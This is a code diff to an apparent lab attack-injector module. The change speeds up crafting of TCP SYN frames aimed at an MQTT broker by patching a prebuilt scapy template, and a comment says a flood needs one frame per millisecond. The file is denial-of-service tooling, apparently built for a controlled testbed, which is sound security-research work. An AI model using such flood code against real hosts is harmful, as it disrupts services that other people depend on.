@@ -1,10 +1,14 @@
 """Frames the attacker makes from nothing, in its own name, crafted with scapy; no I/O."""
 
+import struct
+
 from scapy.layers.inet import IP, TCP, UDP
 from scapy.layers.l2 import ARP, Ether
 from scapy.packet import Raw
 
 from coldaisle_contracts.addressing import BROKER, INJECTOR, MQTT_PORT, NTP_PORT
+from coldaisle_contracts.journal import ETHERNET
+from coldaisle_injector.segments import renew
 
 __all__ = ["MQTT_PORT", "PORTS", "datagram", "question", "syn"]
 
@@ -12,6 +16,8 @@ PORTS = range(2_000, 32_000)
 """Source ports: below those a kernel gives its own connections."""
 _NTP_QUESTION = bytes([0x23]) + bytes(47)
 _HEADERS = Ether(src=INJECTOR.mac, dst=BROKER.mac) / IP(src=INJECTOR.ip, dst=BROKER.ip, flags="DF")
+_SYN = bytes(_HEADERS / TCP(flags="S", window=64_240, options=[("MSS", 1460)]))
+_TCP = ETHERNET + 20
 
 
 def syn(source: int, port: int, seq: int) -> bytes:
@@ -22,8 +28,9 @@ def syn(source: int, port: int, seq: int) -> bytes:
         port: target port.
         seq: its initial sequence number.
     """
-    tcp = TCP(sport=source, dport=port, seq=seq, flags="S", window=64_240, options=[("MSS", 1460)])
-    return bytes(_HEADERS / tcp)
+    frame = bytearray(_SYN)  # patched: a flood wants one in a millisecond, and scapy takes a third of that
+    struct.pack_into("!HHI", frame, _TCP, source, port, seq)
+    return renew(bytes(frame), (INJECTOR.mac, BROKER.mac))
 
 
 def datagram(source: int, port: int) -> bytes:
